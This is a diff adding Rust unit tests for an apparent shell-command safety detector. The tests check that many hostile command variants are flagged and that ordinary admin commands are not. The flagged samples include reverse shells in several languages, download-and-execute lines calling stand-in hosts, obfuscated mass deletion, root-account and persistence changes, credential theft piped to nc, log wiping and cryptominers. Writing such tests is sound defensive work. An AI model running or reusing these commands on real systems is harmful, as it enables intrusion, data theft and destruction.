@@ -912,3 +912,159 @@ fn random_shell_soup_keeps_invariants() {
         }
     }
 }
+
+// ---- variants seen in the wild (cheat sheets, Windows, renamed tools) ----------------------
+
+#[test]
+fn flags_common_variants_of_each_family() {
+    let cases = [
+        (
+            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.7:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+            "reverse_shell",
+        ),
+        (
+            "ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.7\",4242))'",
+            "reverse_shell",
+        ),
+        (
+            "exec 5<>/dev/tcp/203.0.113.7/4242;cat <&5 | while read line; do $line 2>&5 >&5; done",
+            "reverse_shell",
+        ),
+        (
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4242 > /tmp/s",
+            "reverse_shell",
+        ),
+        (
+            "node -e 'require(\"child_process\").exec(\"nc -e sh 203.0.113.7 4242\")'",
+            "reverse_shell",
+        ),
+        (
+            "powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4242);$s = $c.GetStream();iex $d\"",
+            "reverse_shell",
+        ),
+        (
+            "source /dev/stdin <<< \"$(curl -s http://x.example/env)\"",
+            "download_pipe_exec",
+        ),
+        (
+            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
+            "download_pipe_exec",
+        ),
+        (
+            "wget x.example/i.sh -P /tmp && bash /tmp/i.sh",
+            "download_then_exec",
+        ),
+        (
+            "certutil -urlcache -split -f http://x.example/a.exe a.exe && a.exe",
+            "download_then_exec",
+        ),
+        ("$(rev <<< '/ fr- mr')", "recursive_delete"),
+        (
+            "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh",
+            "recursive_delete",
+        ),
+        ("ls / | xargs rm -rf", "recursive_delete"),
+        ("mv ~/* /dev/null", "recursive_delete"),
+        ("del /s /q C:\\*.*", "recursive_delete"),
+        (
+            "Remove-Item -Path C:\\Users -Recurse -Force",
+            "recursive_delete",
+        ),
+        ("vssadmin delete shadows /all /quiet", "recursive_delete"),
+        ("find / -name \"*\" -exec rm -rf {} \\;", "recursive_delete"),
+        ("setcap cap_setuid+ep /usr/bin/python3", "setuid_bit"),
+        ("chmod u+s $(which python3)", "setuid_bit"),
+        ("passwd -d root", "auth_config_write"),
+        ("echo 'root:toor' | chpasswd", "auth_config_write"),
+        ("useradd -o -u 0 -g 0 support", "auth_config_write"),
+        (
+            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
+            "windows_persistence",
+        ),
+        (
+            "schtasks /create /sc onlogon /tn u /tr C:\\u.exe",
+            "windows_persistence",
+        ),
+        (
+            "unshadow /etc/passwd /etc/shadow > hashes.txt",
+            "credential_read",
+        ),
+        ("gh auth token", "credential_read"),
+        ("kubectl config view --raw", "credential_read"),
+        ("find / -name id_rsa 2>/dev/null", "credential_read"),
+        (
+            "tar czf - ~/.ssh | nc 203.0.113.7 4444",
+            "credential_exfiltration",
+        ),
+        ("wevtutil cl System", "log_tampering"),
+        (
+            "./kthreadd --algo rx/0 --url pool.example.com:443 --user 44abc",
+            "cryptominer",
+        ),
+        (
+            "docker run -d --restart always metal3d/xmrig",
+            "cryptominer",
+        ),
+        (
+            "echo 'x' | socat - TCP:203.0.113.7:80 && cat /etc/passwd > /dev/tcp/203.0.113.7/80",
+            "dev_tcp_connection",
+        ),
+    ];
+    for (command, rule) in cases {
+        assert_flags(command, rule, Severity::Medium);
+    }
+}
+
+#[test]
+fn ignores_everyday_admin_and_developer_commands() {
+    for command in [
+        "rm -rf dist build *.egg-info",
+        "rm -rf ~/Library/Caches/*",
+        "rmdir *",
+        "find . -type d -name __pycache__ -exec rm -rf {} +",
+        "chmod -R 755 /var/www/html",
+        "chown -R www-data:www-data /var/www",
+        "sudo chown -R $(whoami) /usr/local",
+        "cat ~/.aws/config",
+        "wget https://x.example/file.deb && sudo dpkg -i file.deb",
+        "crontab -l | grep backup",
+        "echo 'server {}' | sudo tee /etc/nginx/sites-available/app",
+        "ssh user@host 'ls /var/log'",
+        "rsync -av --delete ./site/ user@host:/var/www/",
+        "python -c \"import socket; s=socket.socket(); s.connect(('localhost', 8080))\"",
+        "openssl s_client -connect example.com:443",
+        "truncate -s 0 app.log",
+        "ssh-keygen -y -f ~/.ssh/id_rsa > ~/.ssh/id_rsa.pub",
+        "du -sh /var/log/*",
+        "dd if=/dev/zero of=/tmp/test.img bs=1M count=100",
+        "make clean && rm -rf node_modules package-lock.json && npm install",
+    ] {
+        assert_clean(command);
+    }
+}
+
+#[test]
+fn environment_setup_in_shell_startup_files_is_low() {
+    for command in [
+        "echo 'export PATH=$PATH:~/go/bin' >> ~/.bashrc",
+        "echo 'alias ll=\"ls -la\"' >> ~/.zshrc",
+        "echo 'eval \"$(pyenv init -)\"' >> ~/.bashrc",
+        "kubectl completion bash >> ~/.bashrc",
+    ] {
+        let findings = tool(command);
+        assert!(
+            findings.iter().all(|f| f.severity <= Severity::Low) && !findings.is_empty(),
+            "{command}: {findings:#?}"
+        );
+    }
+    assert_flags(
+        "echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc",
+        "shell_rc_persistence",
+        Severity::Medium,
+    );
+    assert_flags(
+        "echo 'eval \"$(curl -s http://x.example/p)\"' >> ~/.bashrc",
+        "download_pipe_exec",
+        Severity::High,
+    );
+}
